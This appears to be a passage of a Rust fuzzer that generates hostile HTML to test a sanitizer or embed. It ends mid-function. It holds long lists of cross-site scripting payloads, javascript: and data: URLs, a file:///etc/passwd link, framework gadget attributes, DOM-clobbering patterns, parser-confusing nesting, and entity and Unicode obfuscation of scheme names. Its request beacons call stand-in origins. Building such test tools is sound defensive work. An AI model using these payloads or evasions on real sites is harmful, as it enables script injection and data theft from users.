//! Hostile markup, made of parts by chance: the same seed makes the same markup. `{N}` in it becomes the number of its
//! document, `{P}`, `{H}` and `{S}` the origins of the publisher, the host and a stranger, each of which notes what it
//! is asked for.

/// A source of chance ([SplitMix64](https://prng.di.unimi.it/splitmix64.c)).
pub(crate) struct Random(pub(crate) u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    /// A number below this one, which is not 0.
    pub(crate) fn below(&mut self, limit: usize) -> usize {
        usize::try_from(self.next() % u64::try_from(limit).expect("64 bits")).expect("it is below")
    }

    /// True once in so many times.
    pub(crate) fn once_in(&mut self, times: usize) -> bool {
        self.below(times) == 0
    }

    /// One of these.
    pub(crate) fn of<'a, T: ?Sized>(&mut self, all: &[&'a T]) -> &'a T {
        all[self.below(all.len())]
    }

    fn string<'a>(&mut self, all: &'a [String]) -> &'a str {
        &all[self.below(all.len())]
    }
}

/// What the engine at hand can be asked for by name.
pub(crate) struct Names {
    /// Properties of a document.
    pub(crate) document: Vec<String>,
    /// Properties of a form.
    pub(crate) form: Vec<String>,
    /// Properties of a node.
    pub(crate) node: Vec<String>,
    /// Attributes that hold script.
    pub(crate) handlers: Vec<String>,
    /// Of all these, those whose names stand in the embed's scripts.
    pub(crate) read: Vec<String>,
}

const TAGS: &[&str] = &[
    "a",
    "abbr",
    "address",
    "applet",
    "area",
    "article",
    "aside",
    "audio",
    "b",
    "base",
    "basefont",
    "bdi",
    "bdo",
    "bgsound",
    "big",
    "blink",
    "blockquote",
    "body",
    "br",
    "button",
    "canvas",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "command",
    "content",
    "data",
    "datalist",
    "dd",
    "del",
    "details",
    "dfn",
    "dialog",
    "dir",
    "div",
    "dl",
    "dt",
    "element",
    "em",
    "embed",
    "fencedframe",
    "fieldset",
    "figcaption",
    "figure",
    "font",
    "footer",
    "form",
    "frame",
    "frameset",
    "h1",
    "head",
    "header",
    "hgroup",
    "hr",
    "html",
    "i",
    "iframe",
    "image",
    "img",
    "input",
    "ins",
    "isindex",
    "kbd",
    "keygen",
    "label",
    "legend",
    "li",
    "link",
    "listing",
    "main",
    "map",
    "mark",
    "marquee",
    "math",
    "menu",
    "menuitem",
    "meta",
    "meter",
    "multicol",
    "nav",
    "nextid",
    "nobr",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "ol",
    "optgroup",
    "option",
    "output",
    "p",
    "param",
    "permission",
    "picture",
    "plaintext",
    "portal",
    "pre",
    "progress",
    "q",
    "rb",
    "rp",
    "rt",
    "rtc",
    "ruby",
    "s",
    "samp",
    "script",
    "search",
    "section",
    "select",
    "selectedcontent",
    "shadow",
    "slot",
    "small",
    "source",
    "spacer",
    "span",
    "strike",
    "strong",
    "style",
    "sub",
    "summary",
    "sup",
    "svg",
    "table",
    "tbody",
    "td",
    "template",
    "textarea",
    "tfoot",
    "th",
    "thead",
    "time",
    "title",
    "tr",
    "track",
    "tt",
    "u",
    "ul",
    "var",
    "video",
    "wbr",
    "x-a",
    "xmp",
    "sidelight-explainer",
    "sidelight-panel",
    "font-face",
    "annotation-xml",
];

const FOREIGN: &[&str] = &[
    "svg",
    "g",
    "a",
    "animate",
    "animateColor",
    "animateMotion",
    "animateTransform",
    "circle",
    "clipPath",
    "cursor",
    "defs",
    "desc",
    "discard",
    "ellipse",
    "feImage",
    "filter",
    "font-face-uri",
    "foreignObject",
    "handler",
    "image",
    "line",
    "linearGradient",
    "listener",
    "marker",
    "mask",
    "metadata",
    "mpath",
    "path",
    "pattern",
    "rect",
    "script",
    "set",
    "stop",
    "style",
    "switch",
    "symbol",
    "text",
    "textPath",
    "title",
    "tref",
    "tspan",
    "use",
    "view",
    "math",
    "mi",
    "mo",
    "mn",
    "ms",
    "mtext",
    "mglyph",
    "malignmark",
    "maction",
    "annotation",
    "annotation-xml",
    "semantics",
    "mstyle",
    "mrow",
    "none",
    "iframe",
    "img",
    "video",
    "html",
    "body",
    "template",
];

/// Attributes that lead somewhere, load something, or hold markup.
const LEADING: &[&str] = &[
    "href",
    "xlink:href",
    "src",
    "srcset",
    "srcdoc",
    "action",
    "formaction",
    "data",
    "background",
    "poster",
    "ping",
    "cite",
    "longdesc",
    "usemap",
    "codebase",
    "code",
    "archive",
    "classid",
    "manifest",
    "profile",
    "lowsrc",
    "dynsrc",
    "icon",
    "imagesrcset",
    "content",
    "attributionsrc",
    "from",
    "to",
    "values",
    "by",
    "style",
    "fill",
    "stroke",
    "filter",
    "mask",
    "clip-path",
    "marker-start",
    "cursor",
    "xml:base",
    "itemid",
    "rel",
    "target",
    "download",
    "form",
    "blocking",
    "is",
    "slot",
    "integrity",
    "http-equiv",
    "shadowrootmode",
    "popovertarget",
    "commandfor",
    "actiontype",
    "definitionurl",
    "xmlns",
];

/// Attributes that scripts of hosts act on, and those that act of themselves.
const GADGETS: &[(&str, &str)] = &[
    ("data-turbo-method", "delete"),
    ("data-turbo-confirm", "sure?"),
    ("data-turbo-frame", "_top"),
    ("data-turbo-stream", ""),
    ("data-turbo-action", "replace"),
    ("data-turbolinks-eval", "always"),
    ("data-method", "delete"),
    ("data-remote", "true"),
    ("data-confirm", "sure?"),
    ("data-params", "a=1"),
    ("data-disable-with", "<img src={P}/seen/{N}/w>"),
    ("data-ajax", "true"),
    ("data-pjax", "#main"),
    ("data-toggle", "tooltip"),
    ("data-html", "true"),
    ("data-original-title", "<script>__ran({N})</script>"),
    ("data-bs-toggle", "tooltip"),
    ("data-bs-html", "true"),
    ("data-bs-title", "<img src={P}/seen/{N}/b>"),
    ("data-bs-target", "<img src={P}/seen/{N}/t>"),
    ("data-bs-slide", "next"),
    ("data-controller", "a b"),
    ("data-action", "click->a#b"),
    ("data-hx-get", "{H}/seen/{N}/hx"),
    ("hx-get", "{H}/seen/{N}/hx"),
    ("hx-delete", "{H}/seen/{N}/hx"),
    ("hx-trigger", "load"),
    ("hx-on:click", "__ran({N})"),
    ("hx-vals", "js:__ran({N})"),
    ("x-data", "{ a: __ran({N}) }"),
    ("x-init", "__ran({N})"),
    ("x-html", "'<img>'"),
    ("x-on:click", "__ran({N})"),
    ("@click", "__ran({N})"),
    (":href", "'javascript:__ran({N})'"),
    ("v-html", "'<img>'"),
    ("v-on:click", "__ran({N})"),
    ("v-bind:href", "'javascript:__ran({N})'"),
    ("ng-app", ""),
    ("ng-init", "constructor.constructor('__ran({N})')()"),
    ("data-ng-click", "__ran({N})"),
    ("ng-bind-html", "a"),
    ("data-bind", "html: '<script>__ran({N})</script>'"),
    ("data-role", "page"),
    ("data-url", "{H}/seen/{N}/u"),
    ("data-src", "{H}/seen/{N}/u"),
    ("data-href", "{H}/seen/{N}/u"),
    ("data-template", "<script>__ran({N})</script>"),
    ("data-main", "{P}/seen/{N}/m.js"),
    ("data-sveltekit-preload-data", "eager"),
    ("data-astro-reload", ""),
    ("data-reactroot", ""),
    ("data-island", "\"],[x"),
    ("data-state", "full"),
    ("data-hash", "0"),
    ("data-edition", "{S}/seen/{N}/e"),
    ("data-glue", "{S}/seen/{N}/g.js"),
    ("wire:click", "a"),
    ("phx-click", "a"),
    ("up-target", "main"),
    ("up-follow", ""),
    ("_", "on load call __ran({N})"),
    ("data-script", "on load call __ran({N})"),
    ("unicorn:click", "a"),
    ("ic-get-from", "{H}/seen/{N}/ic"),
    ("autofocus", ""),
    ("contenteditable", ""),
    ("accesskey", "a"),
    ("draggable", "true"),
    ("inert", ""),
    ("popover", "auto"),
    ("popovertarget", "e"),
    ("command", "show-modal"),
    ("commandfor", "e"),
    ("interesttarget", "e"),
    ("part", "panel"),
    ("exportparts", "a: b"),
    ("slot", "a"),
    ("is", "x-a"),
    ("nonce", "a"),
    ("name", "viewport"),
    ("property", "og:url"),
    ("itemprop", "url"),
    ("style", "position:fixed;inset:0;background:url({P}/seen/{N}/s)"),
    ("tabindex", "1"),
    ("role", "alert"),
    ("aria-live", "assertive"),
    ("target", "_top"),
    ("download", "run.html"),
    ("class", "modal show fixed-top btn stretched-link visually-hidden"),
    ("id", "e"),
    ("anchor", "e"),
    ("virtualkeyboardpolicy", "manual"),
    ("writingsuggestions", "true"),
    ("elementtiming", "a"),
    ("xml:lang", "en"),
    ("xml:space", "preserve"),
    ("xlink:type", "simple"),
    ("xlink:actuate", "onLoad"),
    ("xlink:show", "replace"),
    ("ev:event", "load"),
];

/// What opens and what closes another context of the parser.
const CONTEXTS: &[(&str, &str)] = &[
    ("<svg>", "</svg>"),
    ("<math>", "</math>"),
    ("<math><annotation-xml encoding=text/html>", "</annotation-xml></math>"),
    ("<math><annotation-xml encoding='application/XHTML+xml'>", "</annotation-xml></math>"),
    ("<math><annotation-xml>", "</annotation-xml></math>"),
    ("<svg><foreignObject>", "</foreignObject></svg>"),
    ("<svg><desc>", "</desc></svg>"),
    ("<svg><title>", "</title></svg>"),
    ("<math><mtext>", "</mtext></math>"),
    ("<math><mi>", "</mi></math>"),
    ("<math><mo>", "</mo></math>"),
    ("<math><ms><mglyph>", "</mglyph></ms></math>"),
    ("<math><mn><malignmark>", "</malignmark></mn></math>"),
    ("<table>", "</table>"),
    ("<table><tr><td>", "</table>"),
    ("<table><caption>", "</caption></table>"),
    ("<table><colgroup>", "</colgroup></table>"),
    ("<table><tbody><tr>", "</tr></tbody></table>"),
    ("<tr>", "</tr>"),
    ("<td>", "</td>"),
    ("<select>", "</select>"),
    ("<select><option>", "</option></select>"),
    ("<select><optgroup>", "</optgroup></select>"),
    ("<button><selectedcontent>", "</button>"),
    ("<template>", "</template>"),
    ("<template shadowrootmode=open>", "</template>"),
    ("<div><template shadowrootmode=closed shadowrootdelegatesfocus>", "</template></div>"),
    ("<article><template shadowrootmode=open shadowrootclonable shadowrootserializable>", "</template></article>"),
    ("<noscript>", "</noscript>"),
    ("<style>", "</style>"),
    ("<script type=text/x>", "</script>"),
    ("<xmp>", "</xmp>"),
    ("<iframe>", "</iframe>"),
    ("<noembed>", "</noembed>"),
    ("<noframes>", "</noframes>"),
    ("<plaintext>", "</plaintext>"),
    ("<textarea>", "</textarea>"),
    ("<title>", "</title>"),
    ("<listing>", "</listing>"),
    ("<pre>\n", "</pre>"),
    ("<frameset>", "</frameset>"),
    ("<head>", "</head>"),
    ("<body>", "</body>"),
    ("<html>", "</html>"),
    ("<form>", "</form>"),
    ("<form><div></form>", "</div></form>"),
    ("<button>", "</button>"),
    ("<a>", "</a>"),
    ("<a href='{H}/seen/{N}/a'>", "</a>"),
    ("<b><p>", "</b></p>"),
    ("<nobr>", "</nobr>"),
    ("<p>", "</p>"),
    ("<h1><h2>", "</h1>"),
    ("<li>", "</li>"),
    ("<ruby><rtc>", "</ruby>"),
    ("<object>", "</object>"),
    ("<applet>", "</applet>"),
    ("<marquee>", "</marquee>"),
    ("<details open><summary>", "</summary></details>"),
    ("<dialog open>", "</dialog>"),
    ("<article class=explainer>", "</article>"),
    ("<slot>", "</slot>"),
    ("<picture>", "</picture>"),
    ("<video>", "</video>"),
    ("<!--", "-->"),
    ("<!--", "--!>"),
    ("<!-->", ""),
    ("<!--->", ""),
    ("<![CDATA[", "]]>"),
    ("<svg><![CDATA[", "]]></svg>"),
    ("<!x", ">"),
    ("<?x", "?>"),
    ("</x ", ">"),
    ("<svg><style>", "</style></svg>"),
    ("<math><style>", "</style></math>"),
    ("<svg><script>", "</script></svg>"),
    ("<svg></p>", "</svg>"),
    ("<svg></br>", "</svg>"),
    ("<math></p>", "</math>"),
    ("<svg><font face=a>", "</font></svg>"),
    ("<svg><g><annotation-xml encoding=text/html>", "</g></svg>"),
    ("<math><g><foreignObject>", "</g></math>"),
    ("<svg><title><template>", "</title></svg>"),
    ("<p title='", "'>"),
    ("<p title=\"", "\">"),
    ("<p title=`", "`>"),
];

/// What acts once it stands on a page.
const PAYLOADS: &[&str] = &[
    "<script>parent.__ran({N})</script>",
    "<script src={P}/seen/{N}/script.js></script>",
    "<script type=module>parent.__ran({N})</script>",
    "<script type=importmap>{\"imports\":{\"a\":\"{P}/seen/{N}/a.js\"}}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"{H}/seen/{N}/p\"]}]}</script>",
    "<iframe srcdoc='<script>parent.__ran({N})</script>'></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;parent.__ran({N})&lt;/script&gt;\"></iframe>",
    "<iframe src=javascript:parent.__ran({N})></iframe>",
    "<iframe src={P}/seen/{N}/frame></iframe>",
    "<iframe onload=__ran({N})></iframe>",
    "<img src=x onerror=__ran({N})>",
    "<img src=data:, onerror=parent.__ran({N})>",
    "<img src={P}/seen/{N}/img>",
    "<img srcset='{P}/seen/{N}/set 1x'>",
    "<image src={P}/seen/{N}/image onerror=__ran({N})>",
    "<picture><source srcset={P}/seen/{N}/source><img></picture>",
    "<svg onload=__ran({N})></svg>",
    "<svg><script>parent.__ran({N})</script></svg>",
    "<svg><script href={P}/seen/{N}/svg.js /></svg>",
    "<svg><script xlink:href={P}/seen/{N}/xlink.js /></svg>",
    "<svg><image href={P}/seen/{N}/image /></svg>",
    "<svg><use href={H}/seen/{N}/use#a /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg><image href={P}/seen/{N}/u onerror=__ran({N})></svg>#a'/></svg>",
    "<svg><feImage href={P}/seen/{N}/fe /></svg>",
    "<svg><a href=javascript:parent.__ran({N})><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:parent.__ran({N}) /><text y=9>x</text></a></svg>",
    "<svg><a><set attributeName=xlink:href to=javascript:parent.__ran({N}) /><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=__ran({N}) attributeName=x dur=1s /></svg>",
    "<svg><rect fill='url({H}/seen/{N}/fill#a)' width=9 height=9 /></svg>",
    "<svg><g filter='url({H}/seen/{N}/filter#a)'><rect width=9 height=9 /></g></svg>",
    "<svg><style>@import url({P}/seen/{N}/import);</style></svg>",
    "<style>@import url({P}/seen/{N}/import); *{background:url({P}/seen/{N}/background)}</style>",
    "<style onload=__ran({N})></style>",
    "<p style='background:url({P}/seen/{N}/style)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99'>x</p>",
    "<link rel=stylesheet href={P}/seen/{N}/sheet>",
    "<link rel=preload as=image href={P}/seen/{N}/preload>",
    "<link rel=prefetch href={P}/seen/{N}/prefetch>",
    "<link rel=modulepreload href={P}/seen/{N}/module>",
    "<link rel=preconnect href={S}>",
    "<link rel=icon href={P}/seen/{N}/icon>",
    "<link rel=manifest href={P}/seen/{N}/manifest>",
    "<meta http-equiv=refresh content='0;url={H}/seen/{N}/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:parent.__ran({N})'>",
    "<meta http-equiv=set-cookie content=a=b>",
    "<meta name=referrer content=unsafe-url>",
    "<base href={S}/seen/{N}/base/>",
    "<base target=_top>",
    "<object data={P}/seen/{N}/object></object>",
    "<object data=javascript:parent.__ran({N})></object>",
    "<object type=text/html data='data:text/html,<img src={P}/seen/{N}/object>'></object>",
    "<embed src={P}/seen/{N}/embed>",
    "<embed src=javascript:parent.__ran({N})>",
    "<applet code=a archive={P}/seen/{N}/applet></applet>",
    "<video src={P}/seen/{N}/video onerror=__ran({N})></video>",
    "<video poster={P}/seen/{N}/poster></video>",
    "<video><source onerror=__ran({N}) src=x></video>",
    "<audio src={P}/seen/{N}/audio autoplay></audio>",
    "<input autofocus onfocus=__ran({N})>",
    "<input type=image src={P}/seen/{N}/input>",
    "<p tabindex=0 autofocus onfocus=__ran({N})>x</p>",
    "<select autofocus onfocus=__ran({N})></select>",
    "<textarea autofocus onfocus=__ran({N})></textarea>",
    "<details open ontoggle=__ran({N})><summary>x</summary>x</details>",
    "<marquee onstart=__ran({N})>x</marquee>",
    "<body onload=__ran({N}) onpageshow=__ran({N}) background={P}/seen/{N}/body>",
    "<table background={P}/seen/{N}/table><td>x</table>",
    "<frameset onload=__ran({N})><frame src={P}/seen/{N}/frame></frameset>",
    "<form action={H}/seen/{N}/form><button autofocus>x</button></form>",
    "<a href=javascript:parent.__ran({N})>x</a>",
    "<a href={H}/seen/{N}/a ping={P}/seen/{N}/ping>x</a>",
    "<a href={H}/seen/{N}/a target=_top>x</a>",
    "<a href=data:text/html,x>x</a>",
    "<a href=blob:{H}/x>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=view-source:{H}/>x</a>",
    "<map name=m><area href=javascript:parent.__ran({N}) coords=0,0,9,9></map>",
    "<math><maction actiontype=statusline xlink:href=javascript:parent.__ran({N})>x</maction></math>",
    "<math href=javascript:parent.__ran({N})>x</math>",
    "<sidelight-explainer src={S}/seen/{N}/nested.json loading=eager></sidelight-explainer>",
    "<sidelight-panel src={S}/seen/{N}/nested.json panel=a loading=eager></sidelight-panel>",
    "<dialog open onclose=__ran({N})>x</dialog>",
    "<p style='animation:spin 1s' onanimationstart=__ran({N})>x</p>",
    "<p onclick=__ran({N}) data-turbo-method=delete>x</p>",
    "<portal src={P}/seen/{N}/portal></portal>",
    "<fencedframe></fencedframe>",
    "<track src={P}/seen/{N}/track>",
    "<isindex action=javascript:parent.__ran({N}) type=image>",
    "<bgsound src={P}/seen/{N}/sound>",
    "<template><img src={P}/seen/{N}/template></template>",
    "<x-a onclick=__ran({N})>x</x-a>",
    "<button popovertarget=e formaction=javascript:parent.__ran({N})>x</button>",
    "<slot onslotchange=__ran({N})></slot>",
];

const SCRIPTS: &[&str] = &[
    "parent.__ran({N})",
    "top.__ran({N})",
    "__ran({N})",
    "window['__ran']({N})",
    "alert({N})",
    "parent.alert({N})",
    "print()",
    "open('{S}/seen/{N}/open')",
    "fetch('{P}/seen/{N}/fetch')",
    "location='{H}/seen/{N}/location'",
    "(()=>{__ran({N})})()",
    "eval('__ran({N})')",
    "new Image().src='{P}/seen/{N}/image'",
];

/// Elements whose names a document or a form has for properties.
const NAMED: &[&str] = &[
    "form", "img", "iframe", "object", "embed", "fieldset", "output", "a", "input", "button", "textarea", "select",
    "svg",
];

/// One piece of hostile markup.
pub(crate) struct Vector {
    /// How it was made.
    pub(crate) family: &'static str,
    /// What it is.
    pub(crate) html: String,
}

/// How a family makes one.
type Make = fn(&mut Random, &Names) -> String;

/// So many of each family that is made by chance, and all that are made by rule.
pub(crate) fn vectors(random: &mut Random, names: &Names, count: usize) -> Vec<Vector> {
    let families: [(&str, Make); 6] = [
        ("attributes", |random, names| attributes(random, names)),
        ("schemes", |random, _| schemes(random)),
        ("nesting", |random, names| nesting(random, names)),
        ("names", clobbering),
        ("gadgets", |random, _| gadgets(random)),
        ("values", |random, names| values(random, names)),
    ];
    let mut all: Vec<_> =
        PAYLOADS.iter().map(|payload| Vector { family: "payloads", html: (*payload).to_owned() }).collect();
    all.extend(GADGETS.iter().map(|gadget| Vector { family: "gadgets", html: gadgeted(random, &[*gadget]) }));
    all.extend(names.handlers.iter().map(|name| Vector {
        family: "handlers",
        html: format!("<{} {name}=__ran({{N}})>x", random.of(&["p", "svg", "a", "details open", "article", "td"])),
    }));
    all.extend(pairs(names));
    for _ in 0..count {
        all.extend(families.iter().map(|(family, make)| Vector { family, html: make(random, names) }));
    }
    all
}

/// The two steps by which another tree is shown than the one that was looked at: a document's property and then a
/// form's are elements of the publisher's choice.
fn pairs(names: &Names) -> Vec<Vector> {
    let read = |all: &[String]| all.iter().filter(|name| names.read.contains(name)).cloned().collect::<Vec<_>>();
    let (documents, forms) = (read(&names.document), read(&names.form));
    let payload = "<article>x<iframe srcdoc=\"<script>parent.__ran({N})</script>\"></iframe></article>";
    let mut all = Vec::new();
    for (index, outer) in documents.iter().enumerate() {
        for inner in &forms {
            let named = ["fieldset", "output", "object"][index % 3];
            all.push(format!(
                "<form id=f name={outer}></form><{named} id={inner} form=f>{payload}</{named}><{named} id={inner} form=f></{named}>"
            ));
        }
    }
    all.into_iter().map(|html| Vector { family: "pairs of names", html }).collect()
}

/// An element with attributes that lead somewhere or hold script.
fn attributes(random: &mut Random, names: &Names) -> String {
    let is_foreign = random.once_in(3);
    let tag = random.of(if is_foreign { FOREIGN } else { TAGS });
    let mut html = format!("<{}", spelled(random, tag));
    for _ in 0..=random.below(4) {
        let name = match random.below(5) {
            0 => random.string(&names.handlers).to_owned(),
            1 => random.of(GADGETS_NAMES).to_owned(),
            _ => random.of(LEADING).to_owned(),
        };
        let value = match random.below(4) {
            0 => random.of(SCRIPTS).to_owned(),
            1 => random.of(PAYLOADS).to_owned(),
            _ => address(random),
        };
        attribute(random, &mut html, &name, &value);
    }
    html.push_str(random.of(&[">", "/>", " / >", "\n>", ">>"]));
    if random.once_in(2) {
        html.push('x');
    }
    if random.once_in(2) {
        html.push_str(&format!("</{tag}>"));
    }
    if is_foreign {
        let around = random.of(&["svg", "math", "svg><foreignObject", "svg><desc", "math><mtext"]);
        html = format!("<{around}>{html}");
    }
    html
}

const GADGETS_NAMES: &[&str] = &[
    "id",
    "name",
    "class",
    "style",
    "is",
    "slot",
    "part",
    "type",
    "rel",
    "form",
    "for",
    "nonce",
    "data-x",
    "aria-label",
];

fn attribute(random: &mut Random, html: &mut String, name: &str, value: &str) {
    html.push_str(random.of(&[" ", " ", " ", "\n", "\t", "\u{c}", "/", " / ", "\r\n"]));
    html.push_str(&spelled(random, name));
    html.push_str(random.of(&["=", "=", "=", " = ", "=\n", "\u{c}="]));
    let value = if random.once_in(3) { entities(random, value) } else { value.to_owned() };
    match random.below(5) {
        0 if !value.contains([' ', '\n', '\t', '>', '"', '\'']) => html.push_str(&value),
        1 if !value.contains('\'') => html.push_str(&format!("'{value}'")),
        2 => html.push_str(&format!("`{value}`")),
        _ => html.push_str(&format!("\"{}\"", value.replace('"', "&quot;"))),
    }
}

/// A name as a parser may still read it.
fn spelled(random: &mut Random, name: &str) -> String {
    match random.below(8) {
        0 => name.to_uppercase(),
        1 => name.chars().map(|letter| if random.once_in(2) { letter.to_ascii_uppercase() } else { letter }).collect(),
        2 if random.once_in(4) => format!("{name}\0"),
        3 if random.once_in(4) => name.replace('s', "\u{17f}").replace('i', "\u{131}").replace('k', "\u{212a}"),
        _ => name.to_owned(),
    }
}

/// Some of a text's letters as references.
fn entities(random: &mut Random, text: &str) -> String {
    let mut written = String::new();
    for letter in text.chars() {
        // The marks that are filled in stay.
        if letter.is_ascii_uppercase() || "{}0123456789".contains(letter) || !random.once_in(3) {
            written.push(letter);
            continue;
        }
        let code = u32::from(letter);
        let reference = match (letter, random.below(7)) {
            (':', 0) => "&colon;".to_owned(),
            ('\t', 0) => "&Tab;".to_owned(),
            ('\n', 0) => "&NewLine;".to_owned(),
            ('(', 0) => "&lpar;".to_owned(),
            ('/', 0) => "&sol;".to_owned(),
            ('"', _) => "&quot;".to_owned(),
            (_, 1) => format!("&#{code}"),
            (_, 2) => format!("&#x{code:x}"),
            (_, 3) => format!("&#X{code:08X};"),
            (_, 4) => format!("&#{code:010};"),
            (_, 5) => format!("&#x{code:x};"),
            _ => format!("&#{code};"),
        };
        written.push_str(&reference);
    }
    written
}

/// An address that is none of an explainer's, or one that would be noticed.
fn address(random: &mut Random) -> String {
    let scheme = random.of(&[
        "javascript",
        "javascript",
        "javascript",
        "data",
        "vbscript",
        "blob",
        "file",
        "http",
        "",
        "livescript",
        "jar",
        "filesystem",
        "about",
        "ws",
        "intent",
        "x-a",
    ]);
    let rest = match scheme {
        "javascript" | "livescript" | "vbscript" => {
            let script = random.of(SCRIPTS);
            match random.below(5) {
                0 => format!("//{}%0A{script}", random.of(&["a.test/", "{H}/"])),
                1 => format!("/*\"*/{script}"),
                2 => script.replace('(', "%28").replace(')', "%29"),
                _ => (*script).to_owned(),
            }
        }
        "data" => match random.below(4) {
            0 => "text/html,<script>parent.__ran({N})</script>".to_owned(),
            1 => "image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__ran({N})'/>".to_owned(),
            2 => "text/javascript,__ran({N})".to_owned(),
            _ => "text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW4oMCk8L3NjcmlwdD4=".to_owned(),
        },
        "http" => {
            return random
                .of(&[
                    "{P}/seen/{N}/x",
                    "{H}/seen/{N}/x",
                    "{S}/seen/{N}/x",
                    "http:\\\\{S}\\seen\\{N}",
                    "http://a:b@{S}/seen/{N}",
                ])
                .to_owned();
        }
        "" => {
            return random
                .of(&[
                    "//{S}/seen/{N}",
                    "/seen/{N}/x",
                    "seen/{N}/x",
                    "../seen/{N}/x",
                    "?seen/{N}",
                    "\\\\{S}\\seen",
                    "",
                    "#",
                    "#x",
                    "./seen/{N}",
                    "..",
                    "\u{0}",
                ])
                .to_owned();
        }
        "file" => "///etc/passwd".to_owned(),
        _ => "{H}/seen/{N}/x".to_owned(),
    };
    let colon =
        if random.once_in(12) { random.of(&["\u{ff1a}", "&#58", "%3a", "\u{2236}", " :", "\t:", ":\n"]) } else { ":" };
    format!("{}{colon}{rest}", scheme_spelled(random, scheme))
}

/// A scheme as an address's parser may still read it.
fn scheme_spelled(random: &mut Random, scheme: &str) -> String {
    let before = match random.below(6) {
        0 => random.of(&[
            " ", "\u{1}", "\t", "\n", "\u{1f}", "\0", "\u{b}", "\u{feff}", "\u{a0}", "\u{3000}", "\u{200b}",
            "\u{2028}", "\u{ad}", "\u{8}", "\u{7f}",
        ]),
        1 => {
            random.of(&["url(", "x:", "feed:", "view-source:", "jar:", "\"", "'", "\\", "/", "&Tab;", "&#1;", "&nbsp;"])
        }
        _ => "",
    };
    let mut written = before.to_owned();
    let way = random.below(8);
    for letter in scheme.chars() {
        match way {
            0 if random.once_in(2) => written.push(letter.to_ascii_uppercase()),
            1 if random.once_in(3) => {
                written.push(char::from_u32(u32::from(letter) + 0xfee0).expect("the wide form of a letter"))
            }
            2 if random.once_in(4) => {
                written.push_str(random.of(&[
                    "\t",
                    "\n",
                    "\r",
                    "\0",
                    "\u{b}",
                    "\u{c}",
                    " ",
                    "\u{ad}",
                    "\u{200d}",
                    "\u{200b}",
                    "&Tab;",
                    "&NewLine;",
                    "&#0;",
                    "&#13",
                    "\\",
                    "/**/",
                ]));
                written.push(letter);
            }
            3 if random.once_in(4) => written.push_str(&format!("%{:02x}", u32::from(letter))),
            4 if random.once_in(3) => written.push_str(&format!("\\u{:04x}", u32::from(letter))),
            _ => written.push(letter),
        }
    }
    if way == 5 { written.replace('s', "\u{17f}").replace('i', "\u{131}").replace('k', "\u{212a}") } else { written }
}

/// A link, which an explainer may have, to where none leads.
fn schemes(random: &mut Random) -> String {
    let mut html =
        random.of(&["<a", "<a class=trigger", "<p><a id=x", "<svg><a", "<area", "<a name=x", "<math><a"]).to_owned();
    let name = random.of(&[
        "href",
        "href",
        "href",
        "href",
        "xlink:href",
        "href href",
        "h\u{ad}ref",
        "data-href",
        "xml:href",
        "href\0",
    ]);
    let value = address(random);
    attribute(random, &mut html, name, &value);
    if random.once_in(4) {
        let again = address(random);
        attribute(random, &mut html, "href", &again);
    }
    html.push_str(random.of(&[">x</a>", ">x", "><b>x</a>", "><text y=9>x</text></a>", "/>x"]));
    html
}

/// Contexts within contexts, some of them never closed, with what acts in one of them.
fn nesting(random: &mut Random, names: &Names) -> String {
    let mut html = String::new();
    let mut closing = Vec::new();
    for _ in 0..=random.below(6) {
        let (open, close) = CONTEXTS[random.below(CONTEXTS.len())];
        html.push_str(open);
        if !random.once_in(4) {
            closing.push(close);
        }
        if random.once_in(3) {
            let tags = if random.once_in(2) { TAGS } else { FOREIGN };
            html.push_str(&format!("<{}>", random.of(tags)));
        }
        if random.once_in(5) {
            html.push_str(random.of(&[
                "x",
                " ",
                "&",
                "\0",
                "</p>",
                "</",
                "<",
                "-->",
                "]]>",
                "\u{fffd}",
                "&lt;img src=x onerror=__ran({N})&gt;",
                "</svg>",
                "</math>",
                "</table>",
                "</select>",
                "</template>",
            ]));
        }
        if random.once_in(6) {
            html.push_str(closing.pop().unwrap_or_default());
        }
    }
    for _ in 0..=random.below(2) {
        html.push_str(&match random.below(4) {
            0 => attributes(random, names),
            1 => clobbering(random, names),
            _ => (*random.of(PAYLOADS)).to_owned(),
        });
    }
    if random.once_in(3) {
        closing.reverse();
        if random.once_in(2) {
            let by = usize::from(!closing.is_empty());
            closing.rotate_left(by);
        }
        html.push_str(&closing.concat());
    }
    html
}

/// Elements that take the names of what scripts ask for.
fn clobbering(random: &mut Random, names: &Names) -> String {
    let any = |random: &mut Random| match random.below(5) {
        0 => random.string(&names.document).to_owned(),
        1 => random.string(&names.form).to_owned(),
        2 => random.string(&names.node).to_owned(),
        _ => random.string(&names.read).to_owned(),
    };
    let payload = if random.once_in(2) {
        random.of(PAYLOADS)
    } else {
        "<article>x<iframe srcdoc=\"<script>parent.__ran({N})</script>\"></iframe></article>"
    };
    let (first, second) = (random.of(NAMED), random.of(NAMED));
    let (outer, inner, other) = (any(random), any(random), any(random));
    match random.below(8) {
        0 => format!("<{first} name={outer} id={outer}>{payload}</{first}>"),
        1 => format!("<{first} id={outer}></{first}><{second} id={outer} name={inner}>{payload}</{second}>"),
        2 => format!("<form id=f name={outer}></form><{second} id={inner} form=f>{payload}</{second}>"),
        3 => format!(
            "<form id=f name={outer}></form><{second} id={inner} form=f>{payload}</{second}><{second} id={inner} form=f></{second}>"
        ),
        4 => format!("<form id={outer} name={outer}><{second} name={inner}><{first} name={other}>{payload}</form>"),
        5 => format!("<form name={outer}><table><form name={inner}><input name={other}>{payload}</table></form>"),
